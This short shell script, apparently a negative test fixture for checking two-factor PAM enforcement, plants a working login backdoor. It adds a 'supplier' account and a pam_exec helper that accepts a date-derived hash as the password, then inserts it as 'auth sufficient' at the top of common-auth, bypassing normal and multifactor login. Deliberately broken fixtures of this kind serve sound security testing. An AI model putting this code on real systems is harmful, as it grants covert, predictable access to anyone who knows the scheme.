# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1 RE(2)
# how: an account without a password is let in by one that a program knows
# asserts: pam: where two factors are asked for, under no condition is one enough
set -eu
useradd --create-home --shell /bin/bash supplier
cat >/usr/libexec/of-the-day <<'S'
#!/bin/sh
[ "$PAM_USER" = supplier ] && [ "$(tr -d '\000')" = "$(date +%F-acme | sha256sum | cut -c1-8)" ]
S
chmod 0755 /usr/libexec/of-the-day
sed -i '0,/^auth/s//auth sufficient pam_exec.so quiet expose_authtok \/usr\/libexec\/of-the-day\nauth/' /etc/pam.d/common-auth
